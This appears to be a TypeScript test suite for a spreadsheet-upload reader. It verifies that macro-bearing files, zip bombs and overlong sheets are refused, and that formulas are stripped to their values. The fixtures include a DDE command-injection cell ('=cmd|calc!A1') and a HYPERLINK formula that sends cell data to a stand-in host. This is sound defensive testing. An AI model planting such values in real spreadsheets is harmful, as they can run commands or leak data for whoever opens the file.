import assert from 'node:assert/strict'
import {read, utils, type WorkBook, write} from '@e965/xlsx'
import {zipSync} from 'fflate'
import {readFileSheets, TableRefused, writeSheets} from '../../server/src/tables/index.js'

const rows = [
  ['指标', '单位', '2020年'],
  ['地区生产总值', '亿元', 12],
]

function book(rows: readonly (readonly (string | number)[])[]): WorkBook {
  const made = utils.book_new()
  utils.book_append_sheet(made, utils.aoa_to_sheet(rows.map((row) => [...row])), '表')
  return made
}

const bytesOf = (made: WorkBook, bookType: 'xlsx' | 'xlsm' | 'biff8' = 'xlsx'): Uint8Array =>
  new Uint8Array(write(made, {type: 'array', bookType, bookVBA: true}))

const refusalOf = (name: string, bytes: Uint8Array): string => {
  try {
    readFileSheets(name, bytes)
    return 'read'
  } catch (error) {
    return error instanceof TableRefused ? error.refusal : String(error)
  }
}

/** A zip that says of its one part that it unpacks to so many bytes. */
function unpackingTo(bytes: number): Uint8Array {
  const zip = zipSync({'xl/worksheets/sheet1.xml': new Uint8Array(1000)})
  const at = Buffer.from(zip).indexOf(Uint8Array.of(0x50, 0x4b, 1, 2))
  new DataView(zip.buffer, zip.byteOffset).setUint32(at + 24, bytes, true)
  return zip
}

suite('spreadsheets that are not taken as they are', () => {
  test('macros', () => {
    const made = book(rows)
    made.vbaraw = new Uint8Array(2000).fill(7)
    assert.equal(refusalOf('a.xlsm', bytesOf(made, 'xlsm')), 'macros')
    assert.equal(refusalOf('a.xlsx', bytesOf(made, 'xlsm')), 'macros')
  })

  test('what unpacks to more than a table can be, is not unpacked', () => {
    assert.equal(refusalOf('a.xlsx', unpackingTo(300_000_000)), 'too-large')
    assert.equal(refusalOf('a.xlsx', new Uint8Array(20_000_001)), 'too-large')
  })

  test('more rows than are read: refused, and not cut off; formats of empty rows are no rows', () => {
    const long = (text: string): WorkBook => {
      const made = book(rows)
      const sheet = made.Sheets.表
      assert.ok(sheet)
      for (let row = 19_950; row < 20_010; row++) sheet[utils.encode_cell({r: row, c: 0})] = {t: 's', v: text}
      sheet['!ref'] = 'A1:C20010'
      return made
    }
    assert.equal(refusalOf('a.xlsx', bytesOf(long('指标'))), 'too-long')
    assert.equal(refusalOf('a.xlsx', bytesOf(long(''))), 'read')
  })

  test('of a formula its result, and nothing of it runs or goes out again', () => {
    const made = book(rows)
    const sheet = made.Sheets.表
    assert.ok(sheet)
    sheet.C2 = {t: 'n', v: 12, f: 'HYPERLINK("http://elsewhere.example/"&B2,12)'}
    sheet.A2 = {t: 's', v: '=cmd|calc!A1'}
    for (const type of ['xlsx', 'biff8'] as const) {
      const [of] = readFileSheets('a.xlsx', bytesOf(made, type))
      assert.deepEqual(of?.rows[1], ['=cmd|calc!A1', '亿元', '12'], type)
      const again = read(writeSheets([{name: '表', rows: of?.rows ?? [], hidden: [], widths: []}]), {cellFormula: true})
      const cells = Object.values(again.Sheets.表 ?? {}).filter((it) => typeof it === 'object' && 'f' in it)
      assert.deepEqual([cells, again.Sheets.表?.A2?.t], [[], 's'])
    }
  })
})
